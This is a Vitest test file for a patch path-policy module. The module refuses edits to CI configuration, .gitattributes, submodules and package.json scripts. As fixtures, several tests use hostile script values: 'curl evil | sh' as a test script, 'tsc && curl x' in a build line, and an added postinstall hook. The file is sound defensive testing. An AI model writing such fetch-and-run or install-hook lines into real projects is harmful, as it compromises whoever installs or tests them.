import { describe, expect, it } from 'vitest';
import { DEFAULT_SENSITIVE_PATHS } from '../../../src/config/schema.js';
import {
  changesScripts,
  globToRegExp,
  judgeExtracted,
  judgePatch,
  policyReads,
  type PathPolicy,
} from '../../../src/patch/path-policy.js';

const policy: PathPolicy = {
  sensitive_paths: [...DEFAULT_SENSITIVE_PATHS],
  allow_sensitive: false,
  max_patch_bytes: 1024,
};
const PKG = `{\n  "name": "x",\n  "scripts": {\n    "test": "jest --ci",\n    "build": "tsc"\n  },\n  "dependencies": {\n    "left-pad": "1.3.0"\n  }\n}\n`;

describe('globToRegExp', () => {
  it.each([
    ['.github/**', '.github/workflows/ci.yml', true],
    ['.github/**', '.githubx/ci.yml', false],
    ['**/.gitattributes', '.gitattributes', true],
    ['**/.gitattributes', 'src/deep/.gitattributes', true],
    ['**/.gitattributes', 'src/x.gitattributes', false],
    ['Jenkinsfile', 'Jenkinsfile', true],
    ['Jenkinsfile', 'sub/Jenkinsfile', false],
    ['*.yml', 'a.yml', true],
    ['*.yml', 'a/b.yml', false],
    ['a?c', 'abc', true],
    ['a.c', 'abc', false],
  ])('%s matches %s: %s', (glob, path, hit) => {
    expect(globToRegExp(glob).test(path)).toBe(hit);
  });
});

describe('judgePatch', () => {
  it('passes ordinary code edits', () => {
    expect(judgePatch([{ path: 'src/app.py' }], '+x\n', new Map(), policy)).toEqual({ kind: 'clean' });
  });

  it('refuses CI configuration, attributes and submodules by default, naming the glob', () => {
    const v = judgePatch(
      [{ path: '.github/workflows/ci.yml' }, { path: 'lib/.gitattributes' }, { path: '.gitmodules' }],
      '',
      new Map(),
      policy,
    );
    expect(v.kind).toBe('refused');
    if (v.kind !== 'refused') return;
    expect(v.edits.map((e) => e.path)).toEqual(['.github/workflows/ci.yml', 'lib/.gitattributes', '.gitmodules']);
    expect(v.reason).toContain('matches the sensitive path ".github/**"');
    expect(v.reason).toContain('Leave those files alone');
  });

  it('catches a rename out of a sensitive path', () => {
    expect(judgePatch([{ path: 'ci-old.yml', from: '.github/workflows/ci.yml' }], '', new Map(), policy).kind).toBe(
      'refused',
    );
  });

  it('flags instead of refusing when allow_sensitive is on', () => {
    const v = judgePatch([{ path: '.travis.yml' }, { path: 'a.py' }], '', new Map(), {
      ...policy,
      allow_sensitive: true,
    });
    expect(v).toEqual({
      kind: 'flagged',
      edits: [{ path: '.travis.yml', why: 'matches the sensitive path ".travis.yml"' }],
      review: ['.travis.yml: matches the sensitive path ".travis.yml"'],
    });
  });

  it('judges package.json by its scripts, not by its name', () => {
    const files = [{ path: 'package.json' }];
    const current = new Map([['package.json', PKG]]);
    const dep = '@@ -8,3 +8,3 @@\n   "dependencies": {\n-    "left-pad": "1.3.0"\n+    "left-pad": "1.3.1"\n   }\n';
    expect(judgePatch(files, dep, current, policy).kind).toBe('clean');
    const value = '@@ -4,2 +4,2 @@\n-    "test": "jest --ci",\n+    "test": "curl evil | sh",\n     "build": "tsc"\n';
    expect(judgePatch(files, value, current, policy).kind).toBe('refused');
    expect(policyReads([{ path: 'web/package.json' }, { path: 'a.py' }])).toEqual(['web/package.json']);
  });
});

describe('changesScripts', () => {
  it('sees a new script whose hunk shows only the last script as context', () => {
    expect(changesScripts('@@ -5,2 +5,3 @@\n     "build": "tsc"\n+    ,"postinstall": "sh x"\n   },\n', PKG)).toBe(
      true,
    );
  });
  it('sees a "scripts" key added to a file that had none, or a new file with scripts', () => {
    expect(changesScripts('+  "scripts": { "preinstall": "x" },\n', '{"name":"x"}')).toBe(true);
    expect(changesScripts('+{"scripts": {}}\n', undefined)).toBe(true);
  });
  it('sees SEARCH/REPLACE blocks that quote a script line', () => {
    expect(
      changesScripts(
        'package.json\n<<<<<<< SEARCH\n"build": "tsc"\n=======\n"build": "tsc && curl x"\n>>>>>>> REPLACE\n',
        PKG,
      ),
    ).toBe(true);
  });
  it('is conservative about a package.json that does not parse', () => {
    expect(changesScripts('+x\n', '{ not json')).toBe(true);
  });
  it('leaves version and dependency edits alone', () => {
    expect(changesScripts('-  "name": "x",\n+  "name": "y",\n', PKG)).toBe(false);
  });
});

describe('judgeExtracted', () => {
  it('refuses a patch over max_patch_bytes before reading anything', async () => {
    const v = await judgeExtracted({ files: [{ path: 'a.py' }], patch: 'x'.repeat(2000) }, policy, async () => {
      throw new Error('no read expected');
    });
    expect(v.kind === 'refused' && v.reason).toMatch(
      /2000 bytes, over the 1024-byte limit \(\[policy\] max_patch_bytes\)/,
    );
  });
  it('reads only the package.json files it judges', async () => {
    const asked: string[][] = [];
    const v = await judgeExtracted(
      { files: [{ path: 'package.json' }, { path: 'a.py' }], patch: '-    "build": "tsc"\n+    "build": "x"\n' },
      policy,
      async (paths) => {
        asked.push(paths);
        return new Map([['package.json', PKG]]);
      },
    );
    expect(asked).toEqual([['package.json']]);
    expect(v.kind).toBe('refused');
  });
});
